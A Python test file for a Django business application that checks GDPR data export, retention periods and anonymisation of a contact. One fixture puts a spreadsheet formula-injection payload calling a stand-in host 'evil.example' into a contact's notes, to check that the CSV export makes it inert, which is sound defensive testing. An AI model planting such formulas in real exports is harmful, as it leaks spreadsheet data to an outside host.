"""GDPR (issue 18 point 7): what Pilote holds about a person, exported for direction; anonymised only once the
legal periods have run out, then nothing identifying is left in the contact, its exchanges or the audit trail."""

import datetime as dt
import io
import json
import zipfile
from decimal import Decimal as D

from django.urls import reverse

from pilote.contacts import services as contacts
from pilote.contacts.models import Contact, Interaction
from pilote.core import personal_data
from pilote.core.models import AuditEvent
from pilote.sales import issuing, services
from pilote.sales import personal_data as sales_data
from pilote.sales.services import LineSpec


def _person(shop, **extra):
    return contacts.create_contact(
        actor=shop["actor"], kind="person", name="Durand", first_name="Léa", is_customer=True,
        address_line1="8 rue Victor Hugo", postal_code="69003", city="Lyon", email="lea.durand@example.fr",
        phone="06 12 34 56 78", notes='=HYPERLINK("http://evil.example/?d="&A2,"x")', **extra,
    )  # fmt: skip


def _exchange(shop, contact):
    contacts.log_interaction(actor=shop["actor"], contact=contact, kind="call", subject="Appel de Léa",
                             body="Rappeler au 06 12 34 56 78 pour la livraison.")  # fmt: skip


def test_direction_exports_everything_held_about_a_person(shop, client_as):
    lea = _person(shop)
    _exchange(shop, lea)
    invoice = services.create_invoice(actor=shop["actor"], customer=lea, date=shop["day"],
                                      lines=[LineSpec.from_product(shop["p"]["install"], D(2))])  # fmt: skip
    invoice = issuing.issue_invoice(actor=shop["actor"], invoice=invoice, render_pdf=False)
    url = reverse("contacts:personal-data-archive", args=[lea.pk])
    assert client_as("commercial").get(url).status_code == 403
    response = client_as("direction").get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    document = json.loads(archive.read("donnees.json"))
    sections = {s["titre"]: s["lignes"] for s in document["sections"]}
    assert sections["Fiche contact"][0]["E-mail"] == "lea.durand@example.fr"
    assert sections["Historique des échanges"][0]["Objet"] == "Appel de Léa"
    assert sections["Factures et avoirs"][0]["Numéro"] == invoice.number and sections["Factures et avoirs"][0][
        "Total TTC"
    ] == str(invoice.total_gross)
    card = archive.read("01-fiche-contact.csv").decode("utf-8-sig")
    assert "lea.durand@example.fr" in card and ';"=HYPERLINK' not in card and "'=HYPERLINK" in card  # inert
    event = AuditEvent.objects.get(action="core.personal_data.exported")
    assert event.object_id == str(lea.pk) and "lea.durand" not in json.dumps(event.after)


def test_anonymisation_refused_while_an_invoice_must_be_kept(shop, client_as):
    lea = _person(shop)
    invoice = services.create_invoice(actor=shop["actor"], customer=lea, date=shop["day"],
                                      lines=[LineSpec.from_product(shop["p"]["install"], D(1))])  # fmt: skip
    issuing.issue_invoice(actor=shop["actor"], invoice=invoice, render_pdf=False)
    client = client_as("direction")
    url = reverse("contacts:anonymise", args=[lea.pk])
    page = client.post(url, {"confirmation": "ANONYMISER"}, follow=True).content.decode().replace("\u202f", " ")
    assert "Anonymisation impossible pour l&#x27;instant" in page and "jusqu&#x27;au 31/12/2036" in page
    assert "des factures restent à payer" in page
    assert Contact.objects.get(pk=lea.pk).email == "lea.durand@example.fr"
    assert not AuditEvent.objects.filter(action="core.personal_data.anonymised").exists()


def test_the_ten_years_run_to_the_end_of_the_tenth_year(shop):
    lea = _person(shop)
    invoice = services.create_invoice(actor=shop["actor"], customer=lea, date=shop["day"],
                                      lines=[LineSpec.from_product(shop["p"]["install"], D(1))])  # fmt: skip
    issuing.issue_invoice(actor=shop["actor"], invoice=invoice, render_pdf=False)  # 02/03/2026
    on_the_last_day = sales_data.retention(lea, dt.date(2036, 12, 31))
    assert on_the_last_day[0].startswith("des factures émises sont à conserver jusqu'au 31/12/2036")
    assert sales_data.retention(lea, dt.date(2037, 1, 1)) == ["des factures restent à payer"]  # unpaid: still kept


def test_a_prospect_is_anonymised_everywhere_and_the_act_is_logged(shop, client_as):
    lea = _person(shop, is_prospect=True)
    _exchange(shop, lea)
    lea = contacts.update_contact(
        actor=shop["actor"], contact=lea, phone="07 00 00 00 00"
    )  # a before/after in the trail
    client = client_as("direction")
    url = reverse("contacts:anonymise", args=[lea.pk])
    page = client.post(url, {"confirmation": "oui"}, follow=True).content.decode()
    assert "Tapez ANONYMISER" in page and Contact.objects.get(pk=lea.pk).email  # nothing written
    page = client.post(url, {"confirmation": "anonymiser"}, follow=True).content.decode()
    assert "Le contact est anonymisé" in page
    lea.refresh_from_db()
    assert lea.name == f"Personne anonymisée n° {lea.pk}" and not lea.first_name and not lea.email
    assert not lea.phone and not lea.address_line1 and not lea.city and not lea.notes and not lea.is_active
    exchange = Interaction.objects.get(contact=lea)
    assert exchange.subject == "Échange anonymisé" and exchange.body == ""
    events = AuditEvent.objects.filter(object_id=str(lea.pk), object_type="contacts.contact")
    assert events.filter(action="contacts.contact.updated").exists()
    trail = json.dumps([(event.object_repr, event.before, event.after) for event in events])
    assert "Durand" not in trail and "lea.durand" not in trail and "Victor Hugo" not in trail
    assert AuditEvent.objects.filter(action="core.personal_data.anonymised", object_id=str(lea.pk)).exists()
    assert personal_data.retention_reasons("contact", lea, dt.date(2026, 12, 5)) == []
